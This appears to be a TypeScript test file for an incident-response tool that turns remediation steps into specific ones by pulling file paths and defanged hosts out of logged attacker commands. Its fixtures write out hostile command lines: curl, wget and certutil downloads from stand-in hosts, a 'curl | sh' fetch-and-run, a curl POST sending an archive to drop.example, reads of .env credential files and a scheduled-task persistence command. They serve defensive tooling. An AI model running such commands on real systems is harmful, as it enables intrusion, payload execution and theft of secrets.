import { describe, expect, it } from 'vitest';
import type { Finding } from '../finding';
import { isCommandLine, nameThings } from './step-names';

const fact = (row: object) => ({ row, evidence: 1 });
/** Findings of one act by this identity. */
const groupOf = (row: object): Finding[] => [{ facts: [fact(row)], rows: [fact(row)] }] as unknown as Finding[]; // what is read of them
const www = { principal: 'www-data', login: 'www-data', detail: 'host `web-02`' };
const FETCHED = 'Keep a copy of the file with its hash, and block the address it came from';

describe('nameThings', () => {
  it.each([
    ['sh -c curl -s http://198.51.100.78:8080/l.sh -o /tmp/.l', '/tmp/.l', '198[.]51[.]100[.]78'],
    ['wget -qO /dev/shm/k https://cdn.bad.example/k 2>/dev/null', '/dev/shm/k', 'cdn[.]bad[.]example'],
    ['bash -c curl http://203.0.113.9/x > /var/tmp/x', '/var/tmp/x', '203[.]0[.]113[.]9'],
    [
      'certutil.exe -urlcache -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe',
      'C:\\Users\\Public\\a.exe',
      '203[.]0[.]113[.]9',
    ],
  ])('names the file and the address of %s', (command, file, host) => {
    expect(nameThings(FETCHED, groupOf(www), [command])).toEqual({
      step: `Keep a copy of \`${file}\` with its hash, and block \`${host}\`, which it came from`,
      targets: [],
    });
  });

  it('leaves a command alone that says not where it puts what it fetched', () => {
    const command = 'sh -c curl http://203.0.113.9/x | sh';
    expect(nameThings(FETCHED, groupOf(www), [command])).toEqual({ step: FETCHED, targets: [command] });
  });

  it('names the program without its arguments', () => {
    const step = 'Delete the program from the share after keeping a copy with its hash, and find out who put it there';
    const share = '\\\\corp.example\\SYSVOL\\scripts\\hotfix.exe';
    expect(nameThings(step, [], [`cmd.exe /c ${share} -path C:\\`, `${share} -path C:\\`]).targets).toEqual([share]);
    const spaced = '/Applications/My Tool.app/Contents/MacOS/tool';
    expect(nameThings(step, [], [spaced, '/tmp/x --fast']).targets).toEqual([spaced, '/tmp/x']);
  });

  it('puts no command where a folder belongs, and names the server', () => {
    const step =
      'Take the server off the network, keep its memory and the folder of the site, and look for the page that takes commands';
    const named = nameThings(step, groupOf(www), ['sh -c cat /var/www/.env']);
    expect(named).toEqual({ step: step.replace('the server', '`web-02`'), targets: [] });
  });

  it('names what a command sent away, and the task that it made', () => {
    const sent = 'curl -s -X POST -F f=@/tmp/.e.tgz https://drop.example/c';
    expect(nameThings('Find out what the file held, and block where it went', [], [sent]).step).toBe(
      'Find out what `/tmp/.e.tgz` held, and block `drop[.]example`, where it went',
    );
    const made = 'schtasks.exe /create /tn "WSync" /tr C:\\Users\\Public\\w.exe /sc onlogon';
    expect(nameThings('Delete the scheduled task, and keep a copy of what it runs', [], [made]).targets).toEqual([
      'WSync',
    ]);
  });

  it('names the files that a command reads, and whose crontab it is', () => {
    const holds = 'Rotate the credentials that the configuration holds';
    expect(nameThings(holds, [], ['sh -c cat /var/www/shop/.env']).targets).toEqual(['/var/www/shop/.env']);
    expect(nameThings('Read the crontab of the account, keep a copy', groupOf(www), ['crontab -'])).toEqual({
      step: 'Read the crontab of `www-data` on `web-02`, keep a copy',
      targets: [],
    });
  });
});

it.each(['Shared Documents/plan 2026.docx', 'Team mail', 'C:\\Program Files\\Tool\\tool.exe', '/Users/a b/x.txt'])(
  'takes no name with a blank for a command: %s',
  (target) => {
    expect(isCommandLine(target)).toBe(false);
  },
);
